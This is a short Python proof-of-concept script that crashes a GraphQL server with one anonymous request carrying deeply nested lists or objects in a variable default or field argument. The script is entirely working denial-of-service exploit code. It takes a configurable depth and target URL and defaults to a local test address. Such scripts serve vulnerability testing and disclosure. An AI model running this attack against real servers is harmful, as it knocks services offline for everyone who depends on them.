# One anonymous request that aborts the whole server: deeply nested list in a variable's default value.
# usage: python3 crash_nest.py DEPTH [kind]   kind: list (default) | obj | value
import json, sys, urllib.request
d = int(sys.argv[1]); kind = sys.argv[2] if len(sys.argv) > 2 else "list"
if kind == "list":
    q = "query q($a:[Int]=" + "[" * d + "]" * d + "){__typename}"
elif kind == "obj":
    q = "query q($a:Int={" + "a:{" * d + "}" * (d + 1) + "){__typename}"
else:  # nested list as a field argument value
    q = "{classify(text:\"x\", categoryHint:" + "[" * d + "]" * d + "){category}}"
body = json.dumps({"query": q}).encode()
req = urllib.request.Request(sys.argv[3] if len(sys.argv) > 3 else "http://127.0.0.1:18080/graphql", data=body, headers={"content-type": "application/json"})
try:
    with urllib.request.urlopen(req, timeout=30) as r: print(len(body), "bytes ->", r.status, r.read()[:200])
except urllib.error.HTTPError as e: print(len(body), "bytes ->", e.code, e.read()[:200])
except Exception as e: print(len(body), "bytes ->", type(e).__name__, e)
